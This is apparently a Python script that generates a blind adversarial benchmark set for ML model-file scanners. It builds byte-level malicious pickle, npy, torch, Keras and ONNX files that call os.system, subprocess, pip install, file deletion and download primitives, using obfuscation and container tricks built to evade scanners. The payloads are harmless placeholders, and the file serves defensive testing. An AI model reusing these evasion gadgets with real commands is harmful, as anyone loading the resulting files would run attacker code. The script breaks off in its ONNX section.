#!/usr/bin/env python3
"""Writes bench/scan/blind4/adversarial/ (fourth blind set): stdlib only, opcode by opcode and
byte by byte, deterministic (byte-identical on re-run). NEVER load these files.

Payloads are harmless: `echo mlsec-blind4`, paths under /tmp/mlsec_blind4*, http://127.0.0.1:9/.
"""
import base64, binascii, gzip, io, json, os, shutil, struct, sys, tarfile, zipfile, zlib

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
import blindgen  # noqa: E402  (bench/scan/blindgen.py: the shared byte writers)
from blindgen import varint as vint  # noqa: E402

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "adversarial")
shutil.rmtree(OUT, ignore_errors=True)
os.makedirs(OUT)
ROWS = []
CMD = "echo mlsec-blind4"
URL = "http://127.0.0.1:9/mlsec-blind4"
TMP = "/tmp/mlsec_blind4"
PY = "print('mlsec-blind4')"


def write(name, data, cls, what):
    blindgen.write_file(OUT, name, data)
    ROWS.append((name, cls, what, "flagged"))


# ------------------------------------------------------------------ a tiny pickle assembler
u = blindgen.unicode  # SHORT_BINUNICODE / BINUNICODE
by = blindgen.binbytes  # SHORT_BINBYTES / BINBYTES
i1 = blindgen.binint1
G = blindgen.text_global  # text GLOBAL
t = blindgen.small_tuple
lst = blindgen.mark_list
none = blindgen.NONE


def g(mod, name):  # STACK_GLOBAL
    return blindgen.stack_global(mod, name, u)


def call(fn, *args):
    return blindgen.call(fn, *args, tup=t)


def P(body, proto=4):
    return blindgen.protocol(body, proto)


def P0(body):  # protocol 0/1: no PROTO opcode
    return body + blindgen.STOP


# ------------------------------------------------------------------ A. stdlib callables not covered before
A = [
    ("a_osx_support_read_output.pkl", call(g("_osx_support", "_read_output"), u(CMD)), "_osx_support._read_output(cmd) runs os.popen/system (CVE-2026-56315 class)"),
    ("a_aix_support_read_cmd_output.pkl", call(g("_aix_support", "_read_cmd_output"), u(CMD)), "_aix_support._read_cmd_output(cmd) (Python 3.13+, CVE-2026-56315 class)"),
    ("a_pyrepl_pager_pipe_pager.pkl", call(g("_pyrepl.pager", "pipe_pager"), u("x"), u(CMD)), "_pyrepl.pager.pipe_pager(text, cmd) (Python 3.13+, CVE-2026-56315 class)"),
    ("a_ensurepip_run_pip.pkl", call(g("ensurepip", "_run_pip"), lst(u("install"), u("--index-url"), u(URL), u("mlsec-blind4"))), "ensurepip._run_pip(args) runs pip in-process"),
    ("a_pip_main.pkl", call(g("pip", "main"), lst(u("install"), u("--index-url"), u(URL), u("mlsec-blind4"))), "pip.main installs a package (CVE-2025-1716)"),
    ("a_pip_internal_cli_main.pkl", call(g("pip._internal.cli.main", "main"), lst(u("install"), u("--index-url"), u(URL), u("mlsec-blind4"))), "pip._internal.cli.main.main"),
    ("a_profile_run.pkl", call(g("profile", "run"), u(PY)), "profile.run(statement) execs (pure-python profiler)"),
    ("a_pdb_run.pkl", call(g("pdb", "run"), u(PY)), "pdb.run(statement) execs under the debugger"),
    ("a_bdb_unbound_run.pkl", call(g("bdb", "Bdb.run"), call(g("bdb", "Bdb")), u(PY)), "unbound Bdb.run(Bdb(), cmd) via dotted name + rebuilt instance"),
    ("a_trace_unbound_run.pkl", call(g("trace", "Trace.run"), call(g("trace", "Trace"), i1(0), i1(0)), u(PY)), "unbound trace.Trace.run(Trace(0,0), cmd) execs"),
    ("a_profile_unbound_run.pkl", call(g("profile", "Profile.run"), call(g("profile", "Profile")), u(PY)), "unbound profile.Profile.run(Profile(), cmd)"),
    ("a_pty_spawn.pkl", call(g("pty", "spawn"), lst(u("/bin/echo"), u("mlsec-blind4"))), "pty.spawn(argv) forks and execs"),
    ("a_mp_util_spawnv_passfds.pkl", call(g("multiprocessing.util", "spawnv_passfds"), u("/bin/echo"), lst(u("/bin/echo"), u("mlsec-blind4")), b")"), "multiprocessing.util.spawnv_passfds(path, args, fds)"),
    ("a_distutils_spawn.pkl", call(g("distutils.spawn", "spawn"), lst(u("/bin/echo"), u("mlsec-blind4"))), "distutils.spawn.spawn(cmd)"),
    ("a_webbrowser_open.pkl", call(g("webbrowser", "open"), u(URL)), "webbrowser.open runs the browser command"),
    ("a_webbrowser_generic_open.pkl", call(g("webbrowser", "GenericBrowser.open"), call(g("webbrowser", "GenericBrowser"), lst(u("/bin/sh"), u("-c"), u(CMD))), u(URL)), "GenericBrowser(cmd).open(url) Popen of an arbitrary command"),
    ("a_ftplib_ftp.pkl", call(g("ftplib", "FTP"), u("127.0.0.1")), "ftplib.FTP(host) connects"),
    ("a_telnetlib_telnet.pkl", call(g("telnetlib", "Telnet"), u("127.0.0.1"), i1(9)), "telnetlib.Telnet(host, port) connects"),
    ("a_urlretrieve.pkl", call(g("urllib.request", "urlretrieve"), u(URL), u(TMP + "_dl")), "urllib.request.urlretrieve(url, path) downloads and writes"),
    ("a_http_server.pkl", call(g("http.server", "HTTPServer"), t(u("127.0.0.1"), i1(0)), g("http.server", "SimpleHTTPRequestHandler")), "http.server.HTTPServer binds a file server"),
    ("a_signal_alarm.pkl", call(g("signal", "alarm"), i1(1)), "signal.alarm(1) kills the loading process (fickling GHSA-mhc9 class)"),
    ("a_shelve_open.pkl", call(g("shelve", "open"), u(TMP + "_shelf")), "shelve.open(path) creates a db file (and unpickles on read)"),
    ("a_tarfile_extractall.pkl", call(g("tarfile", "TarFile.extractall"), call(g("tarfile", "open"), u(TMP + ".tar")), u("/tmp/mlsec_blind4_x")), "unbound TarFile.extractall(tarfile.open(p), dst) writes files"),
    ("a_shutil_rmtree.pkl", call(g("shutil", "rmtree"), u(TMP + "_dir")), "shutil.rmtree(path) deletes a tree"),
    ("a_shutil_copyfile.pkl", call(g("shutil", "copyfile"), u(TMP + "_src"), u(TMP + "_dst")), "shutil.copyfile(src, dst) overwrites a file"),
    ("a_shutil_make_archive.pkl", call(g("shutil", "make_archive"), u(TMP + "_arch"), u("zip"), u("/tmp")), "shutil.make_archive writes an archive of a folder"),
    ("a_pathlib_unlink.pkl", call(g("pathlib", "Path.unlink"), call(g("pathlib", "Path"), u(TMP + "_victim"))), "unbound pathlib.Path.unlink(Path(p)) deletes"),
    ("a_io_fileio_truncate.pkl", call(g("_io", "FileIO"), u(TMP + "_trunc"), u("w")), "_io.FileIO(path, 'w') creates/truncates any file"),
    ("a_breakpoint.pkl", call(g("builtins", "breakpoint")), "builtins.breakpoint() enters sys.breakpointhook (PYTHONBREAKPOINT)"),
    ("a_threading_thread_run.pkl", call(g("threading", "Thread.run"), call(g("threading", "Thread"), none, g("subprocess", "getoutput"), none, t(u(CMD)))), "Thread(None, target, None, args).run(): target only an argument"),
    ("a_threading_timer_start.pkl", call(g("threading", "Timer.start"), call(g("threading", "Timer"), i1(0), g("os", "system"), t(u(CMD)))), "Timer(0, os.system, args).start(): callee never REDUCEd directly"),
    ("a_importlib_import_module_attrgetter.pkl", call(call(call(g("operator", "attrgetter"), u("system")), call(g("importlib", "import_module"), u("os"))), u(CMD)),
     "attrgetter('system')(importlib.import_module('os'))(cmd)"),
    ("a_importlib_util_spec.pkl", call(g("importlib.util", "module_from_spec"), call(g("importlib.util", "find_spec"), u("antigravity"))), "importlib.util.module_from_spec(find_spec(name)) (issue #66 class)"),
    ("a_pickle_py_loads_nested.pkl", call(g("pickle", "_loads"), by(P(call(g("os", "system"), u(CMD))))), "pickle._loads(bytes) of a nested pickle"),
    ("a_cpickle_loads_nested.pkl", call(g("_pickle", "loads"), by(P(call(g("subprocess", "getoutput"), u(CMD))))), "_pickle.loads(bytes) of a nested pickle"),
    ("a_nt_system.pkl", call(g("nt", "system"), u(CMD)), "nt.system (Windows os module)"),
]
for name, body, what in A:
    write(name, P(body), "A stdlib callable", what)

# ------------------------------------------------------------------ B. library helpers that run code, fetch URLs, read pickles, write files
NPY_OBJ_HDR = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
B = [
    ("b_numpy_testing_runstring.pkl", call(g("numpy.testing._private.utils", "runstring"), u(PY), b"}"), "numpy.testing runstring(astr, dict) is exec"),
    ("b_numpy_testing_runstring_public.pkl", call(g("numpy.testing", "runstring"), u(PY), b"}"), "numpy.testing.runstring public name"),
    ("b_numpy_exec_command.pkl", call(g("numpy.distutils.exec_command", "exec_command"), u(CMD)), "numpy.distutils.exec_command.exec_command"),
    ("b_numpy_exec_mod_from_location.pkl", call(g("numpy.distutils.misc_util", "exec_mod_from_location"), u("m"), u(TMP + ".py")), "numpy.distutils exec_mod_from_location runs a .py"),
    ("b_numpy_extbuild.pkl", call(g("numpy.testing._private.extbuild", "build_and_import_extension"), u("mlsec_blind4"), lst(t(u("f"), u("return NULL;")))), "numpy extbuild compiles and imports C"),
    ("b_numpy_datasource_open.pkl", call(g("numpy.lib._datasource", "open"), u(URL)), "numpy.lib._datasource.open(URL) fetches"),
    ("b_numpy_genfromtxt_url.pkl", call(g("numpy", "genfromtxt"), u(URL)), "numpy.genfromtxt(URL)"),
    ("b_numpy_savetxt_bashrc.pkl", call(g("numpy", "savetxt"), u(TMP + "_bashrc"), call(g("numpy", "zeros"), i1(1)), u("%d"), u(" "), u("\n"), u(CMD)), "numpy.savetxt(path, arr, header=cmd) writes chosen text to any path"),
    ("b_numpy_save_path.pkl", call(g("numpy", "save"), u(TMP + ".npy"), call(g("numpy", "zeros"), i1(2))), "numpy.save(path, arr) writes at load"),
    ("b_pandas_to_csv_unbound.pkl", call(g("pandas.core.frame", "DataFrame.to_csv"), call(g("pandas.core.frame", "DataFrame"), b"}"), u(TMP + ".csv")), "unbound DataFrame.to_csv(DataFrame(), path)"),
    ("b_pandas_get_handle_write.pkl", call(g("pandas.io.common", "get_handle"), u(TMP + "_h"), u("w")), "pandas.io.common.get_handle(path, 'w') creates a file"),
    ("b_pandas_read_parquet_url.pkl", call(g("pandas", "read_parquet"), u(URL)), "pandas.read_parquet(URL)"),
    ("b_pandas_read_feather_url.pkl", call(g("pandas", "read_feather"), u(URL)), "pandas.read_feather(URL)"),
    ("b_pandas_read_excel_url.pkl", call(g("pandas", "read_excel"), u(URL)), "pandas.read_excel(URL)"),
    ("b_pandas_read_sas_url.pkl", call(g("pandas.io.sas.sasreader", "read_sas"), u(URL), u("xport")), "pandas read_sas(URL)"),
    ("b_sklearn_fetch_openml.pkl", call(g("sklearn.datasets", "fetch_openml"), u("mlsec-blind4")), "sklearn.datasets.fetch_openml fetches"),
    ("b_sklearn_load_svmlight.pkl", call(g("sklearn.datasets", "load_svmlight_file"), u(TMP + ".svm")), "sklearn load_svmlight_file reads a path"),
    ("b_scipy_savemat.pkl", call(g("scipy.io", "savemat"), u(TMP + ".mat"), b"}"), "scipy.io.savemat(path, {}) writes"),
    ("b_scipy_mmwrite.pkl", call(g("scipy.io", "mmwrite"), u(TMP + ".mtx"), call(g("numpy", "eye"), i1(2))), "scipy.io.mmwrite(path, a) writes"),
    ("b_scipy_datasets_download_all.pkl", call(g("scipy.datasets", "download_all"), u(TMP + "_ds")), "scipy.datasets.download_all (pooch network)"),
    ("b_torch_bottleneck_run_cprofile.pkl", call(g("torch.utils.bottleneck.__main__", "run_cprofile"), u(PY), b"}"), "torch.utils.bottleneck run_cprofile(code, globs) execs"),
    ("b_torch_dynamo_guardbuilder_get.pkl", call(g("torch._dynamo.guards", "GuardBuilder.get"), none, u("__import__('os').system('echo mlsec-blind4')")), "torch._dynamo GuardBuilder.get evals (picklescan GHSA class)"),
    ("b_torch_inductor_pycodecache.pkl", call(g("torch._inductor.codecache", "PyCodeCache.load"), u(PY)), "torch._inductor PyCodeCache.load(source) execs"),
    ("b_torch_load_inline.pkl", call(g("torch.utils.cpp_extension", "load_inline"), u("mlsec_blind4"), u("int f(){return 0;}")), "torch cpp_extension.load_inline compiles+imports"),
    ("b_torch_testing_shell.pkl", call(g("torch.testing._internal.common_utils", "shell"), u(CMD)), "torch testing common_utils.shell(command)"),
    ("b_torch_hub_load_local.pkl", call(g("torch.hub", "_load_local"), u(TMP + "_hub"), u("model")), "torch.hub._load_local runs hubconf.py"),
    ("b_torch_hub_load.pkl", call(g("torch.hub", "load"), u("mlsec/blind4"), u("model")), "torch.hub.load(repo, model) downloads and runs hubconf"),
    ("b_torch_hub_download_url_to_file.pkl", call(g("torch.hub", "download_url_to_file"), u(URL), u(TMP + "_w")), "torch.hub.download_url_to_file"),
    ("b_torch_save_path.pkl", call(g("torch", "save"), b"}", u(TMP + ".pt")), "torch.save(obj, path) writes at load"),
    ("b_torch_load_bytesio_nested.pkl", None, "torch.load(io.BytesIO(torch zip)) nested archive in bytes"),
    ("b_statsmodels_load_pickle.pkl", call(g("statsmodels.iolib.smpickle", "load_pickle"), u(TMP + ".pkl")), "statsmodels load_pickle(path) unpickles a second file"),
    ("b_statsmodels_webdoc.pkl", call(g("statsmodels.tools.web", "webdoc"), u("OLS")), "statsmodels webdoc opens a browser"),
    ("b_networkx_read_gpickle.pkl", call(g("networkx.readwrite.gpickle", "read_gpickle"), u(TMP + ".gpickle")), "networkx read_gpickle(path) unpickles a second file"),
    ("b_joblib_load_compatibility.pkl", call(g("joblib.numpy_pickle_compat", "load_compatibility"), u(TMP + ".pkl")), "joblib load_compatibility(path) unpickles"),
    ("b_joblib_dump_path.pkl", call(g("joblib", "dump"), b"}", u(TMP + ".joblib")), "joblib.dump(obj, path) writes at load"),
    ("b_joblib_load_bytesio.pkl", call(g("joblib", "load"), call(g("io", "BytesIO"), by(P(call(g("os", "system"), u(CMD)))))), "joblib.load(BytesIO(nested pickle))"),
    ("b_sympy_lambdify_string.pkl", call(g("sympy.utilities.lambdify", "lambdify"), u("x"), u("x + 1")), "sympy lambdify(args, str) sympifies and execs generated code"),
    ("b_cloudpickle_codetype.pkl", None, "cloudpickle _builtin_type('CodeType') + _make_function, then called"),
]
# torch zip (used nested and as containers below)
def torch_zip(pkl, folder="archive", extra=(), order=None, zip64=False):
    members = [(f"{folder}/data.pkl", pkl), (f"{folder}/version", b"3\n")] + list(extra)
    if order:
        members = order(members)
    if zip64:
        return zip64_archive(members)
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_STORED) as z:
        for n, d in members:
            zi = zipfile.ZipInfo(n, date_time=(2024, 1, 1, 0, 0, 0))
            z.writestr(zi, d)
    return bio.getvalue()


def zip64_archive(members):
    """A stored zip whose local/central headers use ZIP64 extra fields and a ZIP64 EOCD record."""
    out, central = bytearray(), bytearray()
    for n, d in members:
        nb = n.encode()
        crc = binascii.crc32(d) & 0xFFFFFFFF
        off = len(out)
        extra = struct.pack("<HHQQ", 1, 16, len(d), len(d))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 0, 0, 0x5821, crc, 0xFFFFFFFF, 0xFFFFFFFF, len(nb), len(extra)) + nb + extra + d
        cextra = struct.pack("<HHQQQ", 1, 24, len(d), len(d), off)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 0, 0, 0x5821, crc, 0xFFFFFFFF, 0xFFFFFFFF, len(nb), len(cextra), 0, 0, 0, 0, 0xFFFFFFFF) + nb + cextra
    cd_off = len(out)
    out += central
    z64_off = len(out)
    out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, len(members), len(members), len(central), cd_off)
    out += struct.pack("<IIQI", 0x07064B50, 0, z64_off, 1)
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0xFFFF, 0xFFFF, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return bytes(out)


EVIL = P(call(g("os", "system"), u(CMD)), 2)
nested_zip = torch_zip(EVIL)
for name, body, what in B:
    if name == "b_torch_load_bytesio_nested.pkl":
        body = call(g("torch", "load"), call(g("io", "BytesIO"), by(nested_zip)))
    if name == "b_cloudpickle_codetype.pkl":
        code = call(call(g("cloudpickle.cloudpickle", "_builtin_type"), u("CodeType")),
                    i1(0), i1(0), i1(0), i1(0), i1(2), i1(0), by(b"t\x00d\x01\x83\x01S\x00"), t(none, u(CMD)), t(u("print")), b")",
                    u("<b4>"), u("f"), u("f"), i1(1), by(b""), by(b""), b")", b")")
        body = call(call(g("cloudpickle.cloudpickle", "_make_function"), code, b"}", u("f"), none, none))
    write(name, P(body), "B library helper", what)

# ------------------------------------------------------------------ C. getattr / descriptor tricks on module objects reached through innocent modules
C = [
    ("c_object_getattribute_module_attr.pkl", call(call(g("builtins", "object.__getattribute__"), g("torch.serialization", "os"), u("system")), u(CMD)),
     "object.__getattribute__(torch.serialization.os, 'system')(cmd): module imported as a plain attribute"),
    ("c_type_getattribute_call.pkl", call(call(g("builtins", "type.__getattribute__"), g("subprocess", "Popen"), u("__call__")), lst(u("/bin/echo"), u("mlsec-blind4"))),
     "type.__getattribute__(Popen, '__call__')(argv): the class is only an argument"),
    ("c_vars_getitem_module.pkl", call(call(g("operator", "getitem"), call(g("builtins", "vars"), g("numpy.lib.npyio", "os")), u("system")), u(CMD)),
     "operator.getitem(vars(numpy.lib.npyio.os), 'system')(cmd)"),
    ("c_dict_get_module_dict.pkl", call(call(g("builtins", "dict.get"), call(g("builtins", "vars"), g("logging", "os")), u("popen")), u(CMD)),
     "dict.get(vars(logging.os), 'popen')(cmd)"),
    ("c_inspect_getattr_static.pkl", call(call(g("inspect", "getattr_static"), g("pandas.io.common", "os"), u("system")), u(CMD)),
     "inspect.getattr_static(pandas.io.common.os, 'system')(cmd)"),
    ("c_attrgetter_module_attr.pkl", call(call(call(g("operator", "attrgetter"), u("system")), g("joblib.numpy_pickle", "os")), u(CMD)),
     "operator.attrgetter('system')(joblib.numpy_pickle.os)(cmd)"),
    ("c_methodcaller_module_attr.pkl", call(call(g("operator", "methodcaller"), u("system"), u(CMD)), g("scipy.io.matlab._mio", "os")),
     "operator.methodcaller('system', cmd)(module)"),
    ("c_methodtype_bound_arg.pkl", call(call(g("types", "MethodType"), call(g("builtins", "getattr"), g("sklearn.utils", "os"), u("system")), u(CMD))),
     "types.MethodType(fn, cmd)() hides the argument in a bound method"),
    ("c_property_fget.pkl", call(call(g("builtins", "getattr"), call(g("builtins", "property"), g("subprocess", "getoutput")), u("fget")), u(CMD)),
     "property(fn).fget(cmd)"),
    ("c_module_attr_os_whole.pkl", call(call(g("builtins", "getattr"), g("torch.hub", "os"), u("system")), u(CMD)),
     "getattr(torch.hub.os, 'system')(cmd)"),
]
for name, body, what in C:
    write(name, P(body), "C getattr/descriptor", what)

# ------------------------------------------------------------------ D. opcode tricks not covered before
def memo_stack_global():
    # strings memoized long before, inside a list that is popped, then fetched with BINGET
    body = b"(" + u("pad") + b"q\x00" + u("os") + b"q\x01" + u("system") + b"q\x02" + b"1"  # POP_MARK
    body += b"h\x01h\x02\x93" + u(CMD) + b"\x85R"
    return body


def memo_dict_keys():
    body = b"}" + u("posix") + b"\x94" + i1(1) + b"s" + u("system") + b"\x94" + i1(2) + b"s" + b"0"  # dict popped, memo kept
    body += b"h\x00h\x01\x93" + u(CMD) + b"\x85R"
    return body


def ext_registry(op):
    code = {b"\x82": 7, b"\x83": 700, b"\x84": 70000}[op]
    reg = call(g("copyreg", "add_extension"), u("os"), u("system"), b"J" + struct.pack("<i", code)) + b"0"
    ref = op + (bytes([code]) if op == b"\x82" else struct.pack("<H", code) if op == b"\x83" else struct.pack("<i", code))
    return reg + ref + u(CMD) + b"\x85R"


def frame(payload):
    return b"\x95" + struct.pack("<Q", len(payload)) + payload


D = [
    ("d_stack_global_from_popmark_memo.pkl", P(memo_stack_global()), "STACK_GLOBAL from BINGET of strings memoized inside an abandoned MARK"),
    ("d_stack_global_from_dict_memo.pkl", P(memo_dict_keys()), "STACK_GLOBAL from memo entries made while building a discarded dict"),
    ("d_inst_posix_system.pkl", P0(b"(" + b"S'" + CMD.encode() + b"'\n" + b"iposix\nsystem\n"), "INST posix system (protocol 0)"),
    ("d_obj_subprocess_getoutput.pkl", P(b"(" + g("subprocess", "getoutput") + u(CMD) + b"o"), "OBJ with a STACK_GLOBAL callable"),
    ("d_obj_text_global.pkl", P0(b"(" + G("subprocess", "check_output") + b"(S'/bin/echo'\nS'mlsec-blind4'\nl" + b"o"), "OBJ after text GLOBAL, list arg"),
    ("d_ext1_add_extension.pkl", P(ext_registry(b"\x82"), 2), "copyreg.add_extension('os','system',7) then EXT1 7"),
    ("d_ext2_add_extension.pkl", P(ext_registry(b"\x83"), 2), "copyreg.add_extension then EXT2"),
    ("d_ext4_add_extension.pkl", P(ext_registry(b"\x84"), 2), "copyreg.add_extension then EXT4"),
    ("d_stack_global_binstring.pkl", P(b"T\x02\x00\x00\x00os" + b"T\x06\x00\x00\x00system" + b"\x93" + u(CMD) + b"\x85R"), "STACK_GLOBAL with BINSTRING operands"),
    ("d_stack_global_short_binstring.pkl", P(b"U\x02osU\x06system\x93" + u(CMD) + b"\x85R"), "STACK_GLOBAL with SHORT_BINSTRING operands"),
    ("d_stack_global_string.pkl", P(b"S'os'\nS'system'\n\x93" + u(CMD) + b"\x85R"), "STACK_GLOBAL with protocol-0 STRING operands"),
    ("d_stack_global_unicode_p0.pkl", P(b"Vos\nVsystem\n\x93" + u(CMD) + b"\x85R"), "STACK_GLOBAL with protocol-0 UNICODE operands"),
    ("d_builtin_py2_eval.pkl", P(G("__builtin__", "eval") + u(PY) + b"\x85R", 2), "__builtin__.eval (fix_imports maps it to builtins, protocol 2)"),
    ("d_builtin_py2_exec_p0.pkl", P0(G("__builtin__", "execfile") + b"(S'/tmp/mlsec_blind4.py'\ntR"), "__builtin__.execfile (Python 2 name)"),
    ("d_frame_zero_len_each.pkl", b"\x80\x04" + b"".join(frame(b"") + c for c in (u("os"), u("system"), b"\x93", u(CMD), b"\x85", b"R")) + b".", "an empty FRAME before every opcode byte"),
    ("d_frame_short_len.pkl", b"\x80\x04" + frame(u("os")) + u("system") + b"\x93" + u(CMD) + b"\x85R.", "FRAME shorter than the stream, rest outside any frame"),
    ("d_binpersid_pid_call.pkl", P(t(u("storage"), call(g("os", "system"), u(CMD))) + b"Q"), "BINPERSID whose pid tuple holds a call"),
    ("d_reduce_in_build_state.pkl", P(call(g("collections", "OrderedDict")) + call(g("os", "system"), u(CMD)) + b"b"), "the call is BUILD state of an innocent object"),
    ("d_second_pickle_after_stop.pkl", P(u("benign")) + P(call(g("os", "system"), u(CMD))), "a benign pickle then a malicious one (readers that load in a loop)"),
]
for name, body, what in D:
    write(name, body, "D opcode trick", what)

# ------------------------------------------------------------------ E. nested pickles
def npy(descr, payload):
    h = "{'descr': %r, 'fortran_order': False, 'shape': (1,), }" % descr if not descr.startswith("{") else descr
    h = h.encode("latin1")
    pad = 64 - (10 + len(h) + 1) % 64
    h += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + payload


inner = P(call(g("subprocess", "getoutput"), u(CMD)))
E = [
    ("e_numpy_object_array_state.pkl",
     P(call(g("numpy.core.multiarray", "_reconstruct"), g("numpy", "ndarray"), t(i1(0)), by(b"b"))
       + t(i1(1), t(i1(1)), call(g("numpy", "dtype"), u("O8"), b"\x89", b"\x88"), b"\x89", lst(call(g("os", "system"), u(CMD)))) + b"b"),
     "the call is an element of an object ndarray's BUILD state"),
    ("e_npy_object_nested_loads.npy", npy("|O", P(call(g("_pickle", "loads"), by(inner)), 3)), ".npy object array whose pickle calls _pickle.loads of a nested pickle"),
    ("e_npy_little_endian_object.npy", npy("<O", P(lst(call(g("os", "system"), u(CMD))), 3)), ".npy whose descr spells object as '<O' (numpy accepts it)"),
    ("e_npy_native_object_field.npy", npy("{'descr': [('a', '=O')], 'fortran_order': False, 'shape': (1,), }", P(lst(t(call(g("os", "system"), u(CMD)),)), 3)),
     ".npy with a structured field spelt '=O'"),
    ("e_pickle_named_npy.npy", P(call(g("os", "system"), u(CMD))), "a raw pickle named .npy (np.load(allow_pickle=True) falls back to pickle.load)"),
]
for name, body, what in E:
    write(name, body, "E nested pickle", what)
write("e_npz_zip64_object.npz", zip64_archive([("x.npy", npy("|O", P(call(g("os", "system"), u(CMD)), 3)))]), "E nested pickle", "npz with ZIP64 records, object member")

# ------------------------------------------------------------------ F. containers
BENIGN_PKL = P(b"}" + u("w") + i1(1) + b"s", 2)
F = []
def zbytes(members, method=zipfile.ZIP_STORED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for n, d in members:
            z.writestr(zipfile.ZipInfo(n, (2024, 1, 1, 0, 0, 0)), d)
    return b.getvalue()


F.append(("f_torch_zip64.pt", torch_zip(EVIL, zip64=True), "torch zip with ZIP64 extra fields and a ZIP64 EOCD"))
F.append(("f_torch_two_archives_evil_first.pt", zbytes([("model/data.pkl", EVIL), ("model/version", b"3\n"), ("archive/data.pkl", BENIGN_PKL), ("archive/version", b"3\n")]),
          "two archive folders: torch reads the first entry's folder (evil), a scanner may pick archive/"))
F.append(("f_torch_two_archives_evil_second.pt", zbytes([("archive/data.pkl", BENIGN_PKL), ("archive/version", b"3\n"), ("extra/data.pkl", EVIL), ("extra/version", b"3\n")]),
          "a second data.pkl in another folder"))
F.append(("f_torch_data_pkl_in_extra.pt", zbytes([("archive/data.pkl", BENIGN_PKL), ("archive/version", b"3\n"), ("archive/extra/state.pkl", EVIL)]),
          "a second pickle under archive/extra/"))
F.append(("f_zip_in_zip_in_zip.zip", zbytes([("inner.zip", zbytes([("deeper.zip", zbytes([("model.pkl", EVIL)]))]))]), "pickle three zips deep"))
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w", format=tarfile.PAX_FORMAT) as tf:
    ti = tarfile.TarInfo("m/" + "d" * 120 + "/model.pkl"); ti.size = len(EVIL); ti.mtime = 0
    tf.addfile(ti, io.BytesIO(EVIL))
write("f_pax_longname.tar", tb.getvalue(), "F container", "PAX tar with a long path header")
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w") as tf:
    ti = tarfile.TarInfo("model.zip"); zz = zbytes([("model.pkl", EVIL)]); ti.size = len(zz); ti.mtime = 0
    tf.addfile(ti, io.BytesIO(zz))
F.append(("f_zip_in_tar.tar.gz", gzip.compress(tb.getvalue(), mtime=0), "tar.gz holding a zip holding a pickle"))
for ext, what in ((".onnx", "raw pickle named .onnx"), (".h5", "raw pickle named .h5"), (".pb", "raw pickle named .pb"), (".ckpt", "raw pickle named .ckpt"),
                  (".txt", "raw pickle named .txt"), ("", "raw pickle without extension"), (".gguf", "raw pickle named .gguf"), (".msgpack", "raw pickle named .msgpack")):
    F.append((f"f_misnamed_pickle{ext}", EVIL, what))
F.append(("f_gzip_pickle_named.pkl", gzip.compress(EVIL, mtime=0), "gzip-compressed pickle named .pkl (joblib.load sniffs the magic)"))
zc = zlib.compress(EVIL)
F.append(("f_joblib_compat_zfile.pkl", b"ZF" + ("0x%x" % len(EVIL)).ljust(19).encode() + zc, "old joblib ZF format (numpy_pickle_compat)"))
F.append(("f_pandas_zip64.pkl.zip", zip64_archive([("data.pkl", EVIL)]), "pandas.read_pickle('.pkl.zip') of a ZIP64 archive"))
F.append(("f_torch_zip_deflated_zip64.pt", zip64_archive([("archive/data.pkl", P(call(g("subprocess", "getoutput"), u(CMD)), 2)), ("archive/version", b"3\n"), ("archive/data/0", b"\0" * 8)]),
          "torch zip64 with storage member"))
for name, body, what in F:
    write(name, body, "F container", what)

# ------------------------------------------------------------------ G. Keras
def keras_zip(cfg):
    meta = {"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}
    return zbytes([("metadata.json", json.dumps(meta).encode()), ("config.json", json.dumps(cfg).encode())])


tm_b64 = base64.b64encode(torch_zip(P(call(g("os", "system"), u(CMD)), 2))).decode()
seq = {"module": "keras", "class_name": "Sequential", "config": {"name": "seq", "layers": [
    {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}},
    {"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"name": "torch_module_wrapper", "module": tm_b64, "trainable": True}}]}}
write("g_keras_torch_module_wrapper.keras", keras_zip(seq), "G Keras", "TorchModuleWrapper config 'module' is base64 torch.save bytes that from_config torch.loads")
func = {"module": "keras", "class_name": "Functional", "config": {"name": "f", "layers": [
    {"module": "keras.layers", "class_name": "InputLayer", "name": "in", "config": {"batch_shape": [None, 4], "name": "in"}, "inbound_nodes": []},
    {"module": "keras.src.utils.torch_utils", "class_name": "TorchModuleWrapper", "name": "tm", "config": {"name": "tm", "module": tm_b64},
     "inbound_nodes": [{"args": [{"class_name": "__keras_tensor__", "config": {"keras_history": ["in", 0, 0]}}], "kwargs": {}}]}],
    "input_layers": [["in", 0, 0]], "output_layers": [["tm", 0, 0]]}}
write("g_keras_functional_torch_wrapper.keras", keras_zip(func), "G Keras", "TorchModuleWrapper by its full module path inside a Functional")
write("g_keras_torch_wrapper_config.json", json.dumps(seq), "G Keras", "the same config as a loose config.json")

# ------------------------------------------------------------------ H. ONNX (hand-written protobuf)
def fld(num, wt, payload):
    key = vint((num << 3) | wt)
    if wt == 2:
        return key + vint(len(payload)) + payload
    return key + vint(payload)


def s(num, text):
    return fld(num, 2, text.encode() if isinstance(text, str) else text)


def onnx_model(nodes, opsets, ext_init=None):
    graph = b"".join(s(1, n) for n in nodes) + s(2, "g")
    if ext_init:
        graph += s(5, ext_init)
    graph += s(11, s(1, "X")) + s(12, s(1, "Y"))
    m = fld(1, 0, 8) + s(2, "blind4") + b"".join(s(8, op) for op in opsets) + s(7, graph)
    return m


def node(inp, out, op, domain="", attrs=()):
    return s(1, inp) + s(2, out) + s(4, op) + (s(7, domain) if domain else b"") + b"".join(s(5, a) for a in attrs)


def attr_s(name, val):
    return s(1, name) + s(4, val) + fld(20, 0, 3)


